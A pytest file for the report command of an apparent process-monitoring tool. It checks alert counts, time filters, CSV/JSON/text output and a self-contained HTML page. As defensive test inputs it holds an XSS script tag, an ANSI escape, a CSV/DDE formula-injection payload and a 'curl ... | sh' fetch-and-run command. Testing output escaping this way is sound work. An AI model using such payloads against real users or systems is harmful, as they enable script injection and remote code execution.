# SPDX-License-Identifier: Apache-2.0
"""report: counts that can be checked by hand, in each form; text that wants to be markup or a formula; the page in a
browser, where there is one. test_journal.py has a report of a real journal."""
import csv
import html.parser
import io
import json
import pathlib
import re
import shutil
import subprocess
import time

import pytest

from conftest import BUILD, CTL, MARKS, NO_EXEC, PATIENCE, clean_env, lines_of

HOSTILE = "<script>alert(1)</script>&\"'\x1b[31m\u202e=cmd|'/c calc'!A0"


def report(*words, code=0, input=b"", env=None):
    done = subprocess.run([str(CTL), "report"] + [str(w) for w in words], input=input, stdout=subprocess.PIPE,
                          stderr=subprocess.PIPE, env=env or clean_env(TZ="UTC"), timeout=60 * PATIENCE)
    assert done.returncode == code, done
    return done.stdout.decode("utf-8") if code == 0 else done.stderr.decode()


def alert(seconds, **more):
    made = {"schema_version": 1, "kind": "alert", "time": "2026-11-22T%02d:%02d:%02d.000000000Z" % (
        10 + seconds // 3600, seconds // 60 % 60, seconds % 60), "seq": 1, "event": "os.system", "action": "alert",
        "rule": "a-rule", "severity": "warning", "attack": [], "message": "m", "pid": 7, "exe": "/usr/bin/python3",
        "script": "app.py", "unit": None, "user": "root", "caller": {"file": "/srv/app.py", "line": 3}, "observed": False}
    made.update(more)
    return made


EVENTS = [
    alert(0, action="block", severity="critical", attack=["T1059", "T1204"], unit="shop.service"),
    alert(1, rule="b-rule", caller={"file": "/v/lib/python3.11/site-packages/requests/api.py", "line": 9}),
    alert(2, observed=True, user="www", unit="shop.service"),
    {"kind": "loss", "time": "2026-11-22T10:00:03Z", "lost": 5, "cause": "ring-full"},
    {"kind": "event", "time": "2026-11-22T10:00:04Z", "event": "open", "action": "record"},
    alert(7200, action="kill", severity="critical", attack=["T1059"], script="-c"),
]


@pytest.fixture
def events(tmp_path):
    path = tmp_path / "events.ndjson"
    path.write_text("".join(json.dumps(e) + "\n" for e in EVENTS))
    return path


def test_summaries_are_added(tmp_path):
    held = {"kind": "summary", "time": "2026-11-22T10:01:00Z", "event": "limit", "rule": "a-rule", "action": "block", "suppressed": 40,
            "denials": 40, "severity": "critical", "message": "40 more", "pid": 7, "exe": "/usr/bin/python3", "script": "app.py",
            "unit": "shop.service", "user": "root",
            "per": {"caller.file": "/v/lib/python3.11/site-packages/requests/api.py"}}
    path = tmp_path / "events.ndjson"
    path.write_text("".join(json.dumps(e) + "\n" for e in EVENTS + [held, dict(held, suppressed=2, denials=0, rule="b-rule", per={})]))
    made = json.loads(report("--file", path, "--json"))
    assert (made["alerts"], made["denied"], made["suppressed"], made["lost"]) == (46, 42, 42, 5)
    assert names(made["by"]["rule"]) == {"a-rule": (43, 42), "b-rule": (3, 0)}
    assert names(made["by"]["package"]) == {"-": (5, 2), "requests": (41, 40)}
    assert sum(slot["alerts"] for slot in made["timeline"]) == 46
    said = report("--file", path, "--by", "package")
    assert "46 alerts: 42 denied" in said and "42 of the alerts were held back by limits" in said


def names(rows):
    return {row["name"]: (row["alerts"], row["denied"]) for row in rows}


def test_json_counts(events):
    made = json.loads(report("--file", events, "--json"))
    assert (made["alerts"], made["denied"], made["observed"], made["lost"]) == (4, 2, 1, 5)
    assert names(made["by"]["rule"]) == {"a-rule": (3, 2), "b-rule": (1, 0)}
    assert names(made["by"]["unit"]) == {"shop.service": (2, 1), "-": (2, 1)}
    assert names(made["by"]["user"]) == {"root": (3, 2), "www": (1, 0)}
    assert names(made["by"]["package"]) == {"-": (3, 2), "requests": (1, 0)}
    assert names(made["by"]["technique"]) == {"T1059": (2, 2), "T1204": (1, 1)}
    assert names(made["by"]["script"]) == {"app.py": (3, 1), "/usr/bin/python3": (1, 1)}
    assert made["by"]["rule"][0]["severity"] == "critical" and made["by"]["rule"][0]["first"] == "2026-11-22T10:00:00.000000000Z"
    assert sum(slot["alerts"] for slot in made["timeline"]) == 4
    assert sum(slot["denied"] for slot in made["timeline"]) == 2


def test_since_and_until(events):
    def count(*words):
        made = json.loads(report("--file", events, "--json", *words))
        return made["alerts"], made["lost"]
    assert count("--since", "2026-11-22T10:00:01Z") == (3, 5)
    assert count("--until", "2026-11-22T10:00:02Z") == (2, 0)  # what is at that second is beyond
    assert count("--since", "2026-11-22T10:00:01Z", "--until", "2026-11-22T10:00:04Z") == (2, 5)
    assert count("--since", "2027-01-01") == (0, 0)


def test_text_and_csv(events):
    text = report("--file", events, "--by", "technique")
    assert text.startswith("4 alerts: 2 denied, 1 would have been; 5 events lost\n")
    assert re.search(r"^ +2 +2 .*critical +T1059 Command and Scripting Interpreter$", text, re.M)
    rows = list(csv.DictReader(io.StringIO(report("--file", events, "--csv", "--by", "unit"), newline="")))
    assert [(r["unit"], r["alerts"], r["denied"], r["observed"], r["last"]) for r in rows] == [
        ("-", "2", "1", "0", "2026-11-22T12:00:00.000000000Z"), ("shop.service", "2", "1", "1", "2026-11-22T10:00:02.000000000Z")]


def test_standard_input_and_lines_that_are_no_events(events):
    done = subprocess.run([str(CTL), "report", "--file", "-", "--json"], input=events.read_bytes() + b"nonsense\n{}\n\xff\n",
                          stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert done.returncode == 0 and json.loads(done.stdout.decode())["alerts"] == 4
    assert b"3 lines are no events" in done.stderr


@pytest.mark.parametrize("words,why", [
    (("--by", "colour"), "none of rule"), (("--since", "yesterweek"), "is no time"), (("--json", "--csv"), "one of"),
    (("--file", "a", "--directory", "b"), "two sources"), (("x",), "unexpected"), (("--wrong",), "unknown option"),
])
def test_usage(words, why):
    assert why in report(*words, code=2)


def test_what_cannot_be_read(tmp_path):
    assert "No such file" in report("--file", tmp_path / "missing", code=1)


def test_times_in_any_order_and_far_apart(tmp_path):
    """The slots of the timeline grow as the span does; nothing is lost on the way."""
    path = tmp_path / "events.ndjson"
    times = ["2026-11-22T10:00:00Z", "2020-01-01T00:00:00Z", "2026-11-22T10:00:01Z", "2030-06-01T00:00:00Z", "2025-03-03T03:03:03Z"]
    path.write_text("".join(json.dumps(alert(0, time=t)) + "\n" for t in times * 50))
    made = json.loads(report("--file", path, "--json"))
    assert sum(slot["alerts"] for slot in made["timeline"]) == made["alerts"] == 250
    at = [slot["time"] for slot in made["timeline"]]
    assert at == sorted(at) and len(at) == 4
    assert (made["first"], made["last"]) == ("2020-01-01T00:00:00.000000000Z", "2030-06-01T00:00:00.000000000Z")


def test_more_names_than_are_kept(tmp_path):
    path = tmp_path / "events.ndjson"
    path.write_text("".join(json.dumps(alert(0, rule="r%d" % i)) + "\n" for i in range(5000)))
    rows = json.loads(report("--file", path, "--json"))["by"]["rule"]
    assert sum(row["alerts"] for row in rows) == 5000 and rows[0]["name"] == "(others)" and rows[0]["alerts"] == 904


# The page

class Page(html.parser.HTMLParser):
    def __init__(self, text):
        super().__init__()
        self.tags, self.text, self.attributes = [], [], []
        self.feed(text)

    def handle_starttag(self, tag, attributes):
        self.tags.append(tag)
        self.attributes += attributes

    def handle_data(self, data):
        self.text.append(data)


def hostile_events(path):
    path.write_text("".join(json.dumps(alert(i * 60, message=HOSTILE, rule=HOSTILE, unit=HOSTILE, script=HOSTILE, user=HOSTILE, action="block",
                                             attack=[HOSTILE], event=HOSTILE, severity=HOSTILE if i else "critical",
                                             caller={"file": "/site-packages/%s/x" % HOSTILE.replace("/", ""), "line": 1})) + "\n"
                            for i in range(3)))
    return path


def test_the_page_stands_alone(events):
    text = report("--file", events, "--html")
    page = Page(text)
    assert page.tags.count("svg") == 1 and page.tags.count("table") == 7
    assert not {"script", "img", "link", "iframe", "object", "a"} & set(page.tags)
    assert not [v for k, v in page.attributes if k in ("src", "href", "onclick", "onload", "xlink:href")]
    assert "http://" not in text and "https://" not in text and "url(" not in text and "@import" not in text
    assert "default-src 'none'" in dict(page.attributes)["content"] or "default-src 'none'" in text
    for word in ("By technique", "T1059", "Command and Scripting Interpreter", "shop.service", "requests", "/srv/app.py:3"):
        assert word in "".join(page.text), word


def test_text_stays_text(tmp_path):
    path = hostile_events(tmp_path / "events.ndjson")
    text = report("--file", path, "--html")
    page = Page(text)
    assert "script" not in page.tags and "\x1b" not in text and "\u202e" not in text
    assert "<script>alert(1)</script>" in "".join(page.text)
    for by in ("rule", "unit", "user", "script", "technique"):
        assert "\x1b" not in report("--file", path, "--by", by)
        (row,) = csv.reader(io.StringIO(report("--file", path, "--csv", "--by", by).split("\r\n")[1]))
        assert "\x1b" not in row[0]
    path.write_text(json.dumps(alert(0, rule="=1+2")) + "\n")
    assert report("--file", path, "--csv").split("\r\n")[1].startswith("\"'=1+2\",")


def test_the_page_in_a_browser(tmp_path):
    browser = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    if browser is None:
        pytest.skip("no Chromium is installed: the page was not opened in a browser")
    events = hostile_events(tmp_path / "events.ndjson")
    with open(str(events), "a") as file:
        for i in range(200):
            file.write(json.dumps(alert(i * 31 % 7000, rule="rule-%d" % (i % 7), action="block" if i % 3 == 0 else "alert",
                                        attack=["T1059.004"], unit="shop.service", message="curl http://example.com | sh")) + "\n")
    page = tmp_path / "report.html"
    page.write_text(report("--file", events, "--html"))
    shot = BUILD / "tests/report/report.png"
    shot.parent.mkdir(parents=True, exist_ok=True)
    common = [browser, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--user-data-dir=%s" % (tmp_path / "profile"),
              "--virtual-time-budget=2000", "--window-size=1100,1600"]
    done = subprocess.run(common + ["--enable-logging=stderr", "--screenshot=%s" % shot, page.as_uri()], stdout=subprocess.PIPE,
                          stderr=subprocess.PIPE, timeout=120 * PATIENCE)
    if done.returncode != 0 or not shot.exists():
        pytest.skip("Chromium does not run here: " + done.stderr.decode(errors="replace")[-300:])
    assert b"CONSOLE" not in done.stderr, done.stderr  # nothing refused, nothing missing
    assert shot.stat().st_size > 20000
    dom = subprocess.run(common + ["--dump-dom", page.as_uri()], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, timeout=120 * PATIENCE)
    seen = Page(dom.stdout.decode())
    assert "script" not in seen.tags and seen.tags.count("table") == 7 and seen.tags.count("rect") > 50


def test_of_what_a_daemon_wrote(daemon, system_python):
    server = daemon(NO_EXEC, MARKS)
    for _ in range(3):
        server.run([system_python, "-c", "import os\ntry: os.system('true')\nexcept PermissionError: pass"])
    server.events()
    made = json.loads(report("--file", server.events_path, "--json"))
    assert (made["alerts"], made["denied"]) == (3, 3) and names(made["by"]["rule"]) == {"no-exec": (3, 3)}
